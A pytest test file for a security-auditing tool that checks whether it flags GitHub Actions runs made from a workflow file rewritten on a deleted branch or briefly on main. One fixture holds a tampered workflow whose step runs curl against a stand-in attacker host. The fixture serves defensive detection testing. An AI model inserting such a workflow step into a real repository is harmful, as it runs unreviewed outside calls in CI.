"""A run whose file is not as the default branch has it is never ordinary, whoever deletes what."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from hardenme.derive.recent import FACTS, RecentQuery, recent
from hardenme.engine.audit import audit
from hardenme.engine.catalogue import select
from hardenme.engine.plan import plan, with_facts
from hardenme.engine.progress import Silent
from hardenme.engine.run_config import RunConfig
from hardenme.engine.target import Target
from hardenme.model.depth import Depth
from hardenme.model.recent import Recent
from hardenme.sandbox.github.state.changes import Activity, Run, commit_id
from hardenme.sandbox.npm import scenarios as npm
from tests.moment import NOW, standing_at
from tests.running import QUICK, stage
from tests.worlds.intrusion import FOLDER, TESTS, intrusion

pytestmark = pytest.mark.second_tier("whole runs", one_of=3)

WINDOW = timedelta(hours=48)
CI = f"{FOLDER}/test.yml"
EVIL = b"on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil.example.test}]}}\n"
HOUR = timedelta(hours=1)


def looked(found: Any, depth: Depth = Depth.FAST) -> Recent:
    made = with_facts(plan(select(("REL101",)), (), depth), FACTS)
    order = RunConfig((Target.parse("github:cedar-labs"),), made, local=False, window=WINDOW)
    with stage(found.world, npm.weak_maintainer(NOW), found.token) as servers, standing_at(NOW):
        report = audit(order, servers.clients(QUICK), Silent())
    return recent(report.inventory, RecentQuery(NOW, WINDOW, depth))


def world() -> tuple[Any, Any]:
    """An organization, and a repository of it in which only ordinary work was done."""
    found = intrusion(NOW, repositories=2)
    return found, found.world.repositories[1]


def runs(told: Recent, repository: Any) -> list[Any]:
    return [
        one
        for one in told.events
        if one.kind == "workflow run" and one.place.name == repository.full_name
    ]


def test_ordinary_runs_are_counted() -> None:
    found, repository = world()
    told = looked(found)
    assert runs(told, repository) == []
    assert told.ordinary.runs > 5


@pytest.mark.second_tier("a run over sockets each", one_of=6)
@pytest.mark.parametrize("event", ["push", "workflow_dispatch", "pull_request"])
@pytest.mark.parametrize("branch", ["topic", "main"])
def test_a_known_file_that_ran_otherwise_is_shown(event: str, branch: str) -> None:
    """Rewritten on a branch that is deleted, or on the default branch and put back."""
    found, repository = world()
    sha = commit_id("evil", event, branch)
    repository.past[sha] = {**repository.files, CI: EVIL}
    at = NOW - HOUR
    before = repository.head("main")
    kinds = ("push", "push") if branch == "main" else ("branch_creation", "branch_deletion")
    ref = f"refs/heads/{branch}"
    repository.activity += [
        Activity(990_001, kinds[0], at, ref, before, sha, "maple"),  # type: ignore[arg-type]
        Activity(990_002, kinds[1], at + HOUR / 2, ref, sha, before, "maple"),  # type: ignore[arg-type]
    ]
    repository.pushed_at = at + HOUR / 2
    repository.runs.append(Run(990_003, CI, event, branch, at, "maple", head=sha))
    (shown,) = runs(looked(found), repository)
    assert shown.marks or shown.confirm
    assert bool(shown.marks) is (branch == "main" and event != "pull_request")


def test_a_commit_that_is_gone_is_named() -> None:
    found, repository = world()
    repository.runs.append(Run(990_003, CI, "push", "topic", NOW - HOUR, "maple", head="a" * 40))
    told = looked(found)
    gaps = {gap.source for gap in told.unseen if repository.full_name in str(gap.places)}
    assert "the files of workflow runs" in gaps


@pytest.mark.second_tier("takes long in all", one_of=3)
@pytest.mark.parametrize("event", ["workflow_dispatch", "repository_dispatch", "schedule"])
def test_runs_without_a_push_are_asked_for_or_named(event: str) -> None:
    found, repository = world()
    repository.activity.clear()
    repository.runs.clear()
    repository.pushed_at = NOW - 100 * WINDOW
    repository.runs.append(
        Run(990_003, f"{FOLDER}/gone.yml", event, "old", NOW - HOUR, "maple", head="")
    )
    shallow = looked(found)
    gaps = {gap.source: gap for gap in shallow.unseen if not gap.unreadable}
    assert repository.full_name in {one.name for one in gaps["runs of workflows"].places}
    assert gaps["runs of workflows"].why.needed == "run with --depth standard"
    deeper = looked(found, Depth.STANDARD)
    assert runs(deeper, repository)


def test_a_workflow_that_was_deleted_has_the_time_of_its_push() -> None:
    found, repository = world()
    at = NOW - HOUR
    assert repository.files[CI] == TESTS
    repository.push(at, "maple", files={CI: None})
    told = looked(found)
    (gone,) = [one for one in told.events if "deleted" in one.text]
    assert (gone.at, gone.place.name) == (at, repository.full_name)
    assert gone.confirm
